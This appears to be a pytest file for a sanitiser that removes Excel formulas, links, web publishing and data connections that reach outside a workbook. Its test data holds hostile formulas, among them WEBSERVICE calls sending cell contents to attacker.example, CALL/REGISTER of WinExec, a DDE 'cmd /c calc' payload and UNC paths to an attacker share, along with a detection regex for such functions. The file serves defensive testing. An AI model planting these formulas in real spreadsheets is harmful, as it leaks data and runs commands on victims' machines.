"""Excel formulas and settings that reach outside the workbook (xlsx, xlsm).

Attacks are written from scratch in the spellings Excel accepts or writes (lower case,
``_xlfn.`` and ``_xlfn._xlws.`` prefixes, whitespace, nesting, shared and array formulas,
defined names, x14 rules, charts).  The output is judged by re-parsing every XML part
with ElementTree against this file's own list of names and reference shapes, and every
cell that lost its formula must still show its cached value.
"""

from __future__ import annotations

import io
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest

from sanitizers.errors import VerifyError
from sanitizers.ooxml.context import PartContext
from sanitizers.ooxml.findings import Tally
from sanitizers.ooxml.formulas import reaches_outside
from sanitizers.ooxml.plan import Policy
from sanitizers.ooxml.spreadsheet import clean_formulas
from sanitizers.ooxml.verify import verify_package
from tests.sanitizers import ooxml_builders as b
from tests.sanitizers.contract import removed_counts
from tests.sanitizers.test_ooxml import rebuild

XM = "http://schemas.microsoft.com/office/excel/2006/main"
X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
C = "http://schemas.openxmlformats.org/drawingml/2006/chart"
C15 = "http://schemas.microsoft.com/office/drawing/2012/chart"

#: (cell, formula as Excel would store it, cached value): each one reaches outside.
HOSTILE_CELLS = (
    ("A20", 'HYPERLINK("file:///C:/Windows/System32/calc.exe","請求書")', "請求書"),
    ("B20", 'hyperlink("\\\\attacker\\share\\x.xlsx")', "x"),
    ("C20", 'HYPERLINK(A1&"x","computed")', "computed"),
    ("D20", '_xlfn.IMAGE("https://attacker.example/p.png")', "0"),
    ("E20", '_xlfn._xlws.WEBSERVICE("https://attacker.example/?"&A1)', "ok"),
    ("F20", '_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://a.example/x"),"//v")', "v"),
    ("G20", 'IF(TRUE, webservice ("https://a.example/") ,0)', "1"),
    ("H20", 'RTD("prog.id",,"topic")', "2"),
    ("I20", 'CALL("kernel32","WinExec","JCJ","calc.exe",5)', "3"),
    ("J20", 'REGISTER("kernel32","WinExec","JCJ")', "4"),
    ("K20", 'register.id("user32","MessageBoxA","JJCCJ")', "5"),
    ("L20", 'EXEC("calc.exe")', "6"),
    ("M20", "cmd|' /c calc'!A0", "7"),
    ("N20", "[1]Sheet1!A1*2", "8"),
    ("O20", "'C:\\x\\[b.xlsx]S'!A1", "9"),
    ("P20", "'\\\\server\\share\\[b.xlsx]S'!$A$1", "10"),
    ("Q20", "SUM([b.xlsx]Sheet1!A1:A3)", "11"),
    ("R20", '_xludf.CALL("x")', "12"),
    ("S20", "IF(A1=1,SUM( [1]!Total ),0)", "13"),
    ("T20", "'https://attacker.example/[b.xlsx]S'!A1", "14"),
    ("U20", "HYPERLINK(\"#'C:\\x\\[b.xlsx]S'!A1\")", "15"),
    ("V20", 'HYPERLINK("#[1]Sheet1!A1","16")', "16"),
)
#: Benign formulas that must stay.
BENIGN = (
    "SUM(1,2)",
    "Table1[Col]+Table1[[#This Row],[Col]]",
    "'Sheet 1'!A1+'It''s'!B2",
    "SUM(Sheet1:Sheet3!A1)",
    '"WEBSERVICE(x)"&"[1]Sheet1!A1"&"a|b"',
    'HYPERLINK("https://www.city.example.lg.jp/","市のサイト")',
    "RECALLED(1)+MY_CALL(2)",
    "IMAGEN",
    'HYPERLINK("#\'通知\'!A1","先頭へ")',
)
#: What no formula of the output may contain: this file's own list, not the sanitiser's.
CALLING_OUT_IN_TESTS = re.compile(
    r"\b(WEBSERVICE|IMAGE|RTD|CALL|REGISTER|EXEC|FILTERXML)\s*\(|\||\\|\[\d+\]|\[[^\]]*\.xls[xmb]?\]",
    re.IGNORECASE,
)


@pytest.mark.parametrize("formula", [f for _, f, _ in HOSTILE_CELLS])
def test_each_hostile_spelling_reaches_outside(formula: str) -> None:
    assert reaches_outside(formula, "keep-web")


@pytest.mark.parametrize("formula", BENIGN)
def test_benign_formulas_stay_inside(formula: str) -> None:
    assert not reaches_outside(formula, "keep-web")


def test_a_web_hyperlink_formula_follows_the_links_option() -> None:
    formula = 'HYPERLINK("https://www.city.example.lg.jp/","x")'
    assert not reaches_outside(formula, "keep-web")
    assert reaches_outside(formula, "remove")


@pytest.mark.parametrize("formula", ['"abc', "'Sheet1!A1", 'HYPERLINK("https://a.example/" ', "HYPERLINK()"])
def test_a_formula_that_cannot_be_read_counts_as_reaching_out(formula: str) -> None:
    assert reaches_outside(formula, "keep-web")


def test_a_long_run_of_quotes_is_scanned_in_linear_time() -> None:
    assert not reaches_outside('""' * 200_000 + "&A1", "keep-web")
    assert reaches_outside("'" + "''" * 200_000, "keep-web")


def hostile_workbook(package: b.Package) -> None:
    """Every construct at once: cells, shared and array formulas, names, rules, links, publishing."""
    cells = "".join(f'<c r="{ref}" t="str"><f>{_x(f)}</f><v>{_x(v)}</v></c>' for ref, f, v in HOSTILE_CELLS)
    shared = (
        '<c r="A21"><f t="shared" ref="A21:C21" si="0">[1]Sheet1!A1</f><v>21</v></c>'
        '<c r="B21"><f t="shared" si="0"/><v>22</v></c><c r="C21"><f t="shared" si="0"/><v>23</v></c>'
        '<c r="D21"><f t="array" ref="D21:D22">_xlfn.WEBSERVICE("https://a.example/")</f><v>24</v></c>'
    )
    package.replace(
        "xl/worksheets/sheet1.xml",
        "</sheetData>",
        f'<row r="20">{cells}</row><row r="21">{shared}</row></sheetData>'
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
        "<formula>RTD(&quot;x&quot;,,&quot;y&quot;)=1</formula></cfRule></conditionalFormatting>"
        '<dataValidations count="1"><dataValidation type="list" sqref="B1">'
        "<formula1>[1]Lists!$A$1:$A$9</formula1></dataValidation></dataValidations>",
    )
    package.replace(
        "xl/worksheets/sheet1.xml",
        "</worksheet>",
        '<webPublishItems count="1"><webPublishItem id="1" divId="d" sourceType="sheet" '
        'destinationFile="\\\\attacker\\share\\leak.htm" autoRepublish="1"/></webPublishItems>'
        f'<extLst><ext uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}" xmlns:x14="{X14}">'
        f'<x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="{XM}">'
        '<x14:cfRule type="expression" priority="2" id="{00000000-0000-0000-0000-000000000001}">'
        "<xm:f>_xlfn._xlws.WEBSERVICE(&quot;https://a.example/&quot;)&lt;&gt;&quot;&quot;</xm:f>"
        "</x14:cfRule><xm:sqref>C1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings>"
        "</ext></extLst></worksheet>",
    )
    package.replace(
        "xl/workbook.xml",
        "</sheets>",
        "</sheets><definedNames>"
        '<definedName name="Leak">_xlfn.WEBSERVICE("https://attacker.example/")</definedName>'
        '<definedName name="Outside">[1]Sheet1!$A$1</definedName>'
        "<definedName name=\"Kept\">'通知'!$A$1</definedName></definedNames>",
    )
    package.replace(
        "xl/workbook.xml",
        "</workbook>",
        '<webPublishObjects count="1"><webPublishObject id="1" divId="d" '
        'destinationFile="\\\\attacker\\share\\book.htm" autoRepublish="1"/></webPublishObjects></workbook>',
    )
    package.add(
        "xl/externalLinks/externalLink1.xml",
        f'<externalLink xmlns="{b.S}" xmlns:r="{b.R}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
        b.DOC + "spreadsheetml.externalLink+xml",
    )
    package.relate(
        "xl/externalLinks/externalLink1.xml",
        b.REL + "externalLinkPath",
        "file:///\\\\attacker\\share\\b.xlsx",
        external=True,
        rid="rId1",
    )
    b.refer_to_the_external_link(package)
    _web_connection(package)


def _web_connection(package: b.Package) -> None:
    """A data connection that refreshes from the web whenever the workbook opens."""
    package.add(
        "xl/connections.xml",
        f'<connections xmlns="{b.S}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
        '<webPr url="https://attacker.example/data"/></connection></connections>',
        b.DOC + "spreadsheetml.connections+xml",
    )
    package.relate("xl/workbook.xml", b.REL + "connections", "connections.xml")


def _x(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def _formula_texts(path: Path) -> list[tuple[str, str, str]]:
    """(part, element, text) of every element whose text is a formula, in every XML part."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                for element in ET.fromstring(archive.read(name)).iter():
                    local = element.tag.rpartition("}")[2]
                    if local in ("f", "formula", "formula1", "formula2", "definedName") and element.text:
                        found.append((name, local, element.text))
    return found


@pytest.mark.parametrize("kind", ["xlsx", "xlsm"])
def test_formulas_reaching_out_go_and_their_cached_values_stay(kind: str, tmp_path: Path) -> None:
    builders = (hostile_workbook, b.macros) if kind == "xlsm" else (hostile_workbook,)
    src = b.build(tmp_path / f"in.{kind}", "xlsx", *builders)
    dst, report = rebuild(src, tmp_path)
    assert report.output_type == "xlsx"
    removed = removed_counts(report)
    assert removed["ooxml.external_formula"] >= len(HOSTILE_CELLS) + 3 + 2 + 2
    assert removed["ooxml.web_publishing"] == 2
    assert removed["ooxml.external_link"] >= 1
    assert removed["ooxml.data_connection"] == 1

    formulas = _formula_texts(dst)
    assert [(n, t) for n, _, t in formulas if CALLING_OUT_IN_TESTS.search(t)] == []
    assert ("xl/worksheets/sheet1.xml", "f", "SUM(1,2)") in formulas  # the ordinary formula stays
    assert ("xl/workbook.xml", "definedName", "'通知'!$A$1") in formulas

    sheet = ET.fromstring(dict(b.xml_parts(dst))["xl/worksheets/sheet1.xml"])
    cells = {c.get("r"): c for c in sheet.iter(f"{{{b.S}}}c")}
    for ref, _, cached in [*HOSTILE_CELLS, ("A21", "", "21"), ("B21", "", "22"), ("C21", "", "23")]:
        assert cells[ref].find(f"{{{b.S}}}f") is None, ref
        assert cells[ref].findtext(f"{{{b.S}}}v") == cached, ref
    assert cells["D21"].findtext(f"{{{b.S}}}v") == "24"
    assert sheet.find(f"{{{b.S}}}conditionalFormatting") is None
    assert sheet.find(f"{{{b.S}}}dataValidations/{{{b.S}}}dataValidation") is None

    names = b.part_names(dst)
    assert not any(re.search(r"externalLink|connections|vba", n, re.I) for n in names)
    everything = b"".join(data for _, data in b.xml_parts(dst))
    for marker in (b"webPublish", b"attacker", b"externalReference", b"webPr"):
        assert marker not in everything, marker
    for _, rel_type, _, mode in b.relationships_in(dst):
        assert mode != "External" and "externalLink" not in rel_type and "connections" not in rel_type
    assert all(t in b.texts_in(dst)["xl/sharedStrings.xml"] for t in b.TEXTS)
    b.assert_package_clean(dst)


def test_links_remove_drops_even_a_web_hyperlink_formula(tmp_path: Path) -> None:
    def web_hyperlink(package: b.Package) -> None:
        package.replace(
            "xl/worksheets/sheet1.xml",
            "</sheetData>",
            '<row r="30"><c r="A30" t="str"><f>HYPERLINK("https://www.city.example.lg.jp/")</f>'
            "<v>市</v></c></row></sheetData>",
        )

    src = b.build(tmp_path / "in.xlsx", "xlsx", web_hyperlink)
    (tmp_path / "keep").mkdir()
    (tmp_path / "drop").mkdir()
    kept, _ = rebuild(src, tmp_path / "keep")
    assert any("HYPERLINK" in t for _, _, t in _formula_texts(kept))
    removed, _ = rebuild(src, tmp_path / "drop", links="remove")
    assert not any("HYPERLINK" in t for _, _, t in _formula_texts(removed))
    assert "<v>市</v>" in dict(b.xml_parts(removed))["xl/worksheets/sheet1.xml"].decode()


_CHART = (
    f'<c:chartSpace xmlns:c="{C}"><c:chart><c:plotArea><c:barChart><c:ser>'
    '<c:tx><c:strRef><c:f>[1]Sheet1!$B$1</c:f><c:strCache><c:ptCount val="1"/>'
    '<c:pt idx="0"><c:v>売上</c:v></c:pt></c:strCache></c:strRef></c:tx>'
    "<c:cat><c:strRef><c:f>'C:\\x\\[b.xlsx]S'!$A$2:$A$3</c:f><c:strCache><c:ptCount val=\"2\"/>"
    '<c:pt idx="0"><c:v>4月</c:v></c:pt><c:pt idx="1"><c:v>5月</c:v></c:pt></c:strCache></c:strRef></c:cat>'
    "<c:val><c:numRef><c:f>[1]Sheet1!$B$2:$B$3</c:f><c:numCache><c:formatCode>General</c:formatCode>"
    '<c:ptCount val="2"/><c:pt idx="0"><c:v>10</c:v></c:pt><c:pt idx="1"><c:v>20</c:v></c:pt>'
    "</c:numCache></c:numRef></c:val>"
    f'<c:extLst><c:ext uri="{{02D57815-91ED-43cb-92C2-25804820EDAC}}" xmlns:c15="{C15}">'
    "<c15:datalabelsRange><c15:f>[1]Sheet1!$C$2:$C$3</c15:f></c15:datalabelsRange></c:ext></c:extLst>"
    "</c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>"
)


def test_a_chart_on_another_workbook_keeps_its_cached_points_as_literals() -> None:
    root = ET.fromstring(_CHART)
    tally = Tally()
    context = PartContext("xl/charts/chart1.xml", "", frozenset(), Policy(True, False, True), False, tally)
    clean_formulas(root, context)
    assert root.find(f".//{{{C}}}f") is None
    assert root.find(f".//{{{C15}}}f") is None
    assert root.findtext(f".//{{{C}}}tx/{{{C}}}v") == "売上"
    assert [v.text for v in root.iterfind(f".//{{{C}}}cat/{{{C}}}strLit/{{{C}}}pt/{{{C}}}v")] == [
        "4月",
        "5月",
    ]
    literal = root.find(f".//{{{C}}}val/{{{C}}}numLit")
    assert literal is not None
    assert literal.findtext(f"{{{C}}}formatCode") == "General"
    assert [v.text for v in literal.iterfind(f"{{{C}}}pt/{{{C}}}v")] == ["10", "20"]


def _sheet_package(cell_xml: str) -> bytes:
    package = b.excel()
    package.replace("xl/worksheets/sheet1.xml", "</sheetData>", f'<row r="40">{cell_xml}</row></sheetData>')
    return _zip(package)


def _zip(package: b.Package) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in package.members():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "cell",
    [
        '<c r="A40"><f>_xlfn._xlws.WEBSERVICE("https://a.example/")</f><v>1</v></c>',
        '<c r="A40"><f>[1]Sheet1!A1</f><v>1</v></c>',
        '<c r="A40" t="str"><f>hyperlink("file:///c:/x")</f><v>x</v></c>',
    ],
)
def test_verification_refuses_a_formula_left_reaching_out(cell: str) -> None:
    with pytest.raises(VerifyError, match="formula"):
        verify_package(_sheet_package(cell), keep_web_links=True)


def test_verification_refuses_web_publishing_left() -> None:
    package = b.excel()
    package.replace(
        "xl/worksheets/sheet1.xml",
        "</worksheet>",
        '<webPublishItems count="1"><webPublishItem id="1" divId="d" sourceType="sheet" '
        'destinationFile="x.htm"/></webPublishItems></worksheet>',
    )
    with pytest.raises(VerifyError, match="webPublish"):
        verify_package(_zip(package), keep_web_links=True)


def table_with_formulas(package: b.Package) -> None:
    package.add(
        "xl/tables/table1.xml",
        f'<table xmlns="{b.S}" id="1" name="T" displayName="T" ref="A1:B4" totalsRowCount="1">'
        '<tableColumns count="2"><tableColumn id="1" name="a" totalsRowFunction="custom">'
        "<totalsRowFormula>SUM([1]Sheet1!A1:A3)</totalsRowFormula></tableColumn>"
        '<tableColumn id="2" name="b"><calculatedColumnFormula>_xlfn.WEBSERVICE("https://a.example/")'
        "</calculatedColumnFormula></tableColumn>"
        '<tableColumn id="3" name="c"><calculatedColumnFormula>T[[#This Row],[a]]*2</calculatedColumnFormula>'
        "</tableColumn></tableColumns></table>",
        b.DOC + "spreadsheetml.table+xml",
    )
    rid = package.relate("xl/worksheets/sheet1.xml", b.REL + "table", "../tables/table1.xml")
    package.replace(
        "xl/worksheets/sheet1.xml",
        "</worksheet>",
        f'<tableParts count="1"><tablePart r:id="{rid}"/></tableParts></worksheet>',
    )


def test_a_table_loses_its_column_formulas_that_reach_out(tmp_path: Path) -> None:
    dst, report = rebuild(b.build(tmp_path / "in.xlsx", "xlsx", table_with_formulas), tmp_path)
    assert removed_counts(report)["ooxml.external_formula"] == 2
    table = ET.fromstring(dict(b.xml_parts(dst))["xl/tables/table1.xml"])
    formulas = [
        e.text for e in table.iter() if e.tag.endswith(("calculatedColumnFormula", "totalsRowFormula"))
    ]
    assert formulas == ["T[[#This Row],[a]]*2"]
    assert len(table.findall(f".//{{{b.S}}}tableColumn")) == 3


def query_table(package: b.Package) -> None:
    """A table filled by a web query: its queryTable part, and the connection behind it."""
    table_with_formulas(package)
    package.replace(
        "xl/tables/table1.xml",
        'totalsRowCount="1"',
        'totalsRowCount="1" tableType="queryTable" connectionId="1"',
    )
    package.replace(
        "xl/tables/table1.xml",
        '<tableColumn id="1" name="a"',
        '<tableColumn id="1" name="a" queryTableFieldId="1"',
    )
    package.add(
        "xl/queryTables/queryTable1.xml",
        f'<queryTable xmlns="{b.S}" name="q" connectionId="1" autoFormatId="16" applyNumberFormats="0"/>',
        b.DOC + "spreadsheetml.queryTable+xml",
    )
    package.relate("xl/tables/table1.xml", b.REL + "queryTable", "../queryTables/queryTable1.xml")
    _web_connection(package)


def test_a_query_table_becomes_a_plain_table_without_its_connection(tmp_path: Path) -> None:
    dst, report = rebuild(b.build(tmp_path / "in.xlsx", "xlsx", query_table), tmp_path)
    assert removed_counts(report)["ooxml.data_connection"] == 2
    assert not any(re.search("queryTable|connections", n) for n in b.part_names(dst))
    table = ET.fromstring(dict(b.xml_parts(dst))["xl/tables/table1.xml"])
    assert table.get("tableType") == "worksheet" and table.get("connectionId") is None
    assert not any("queryTableFieldId" in column.attrib for column in table.iter(f"{{{b.S}}}tableColumn"))
    b.assert_package_clean(dst)
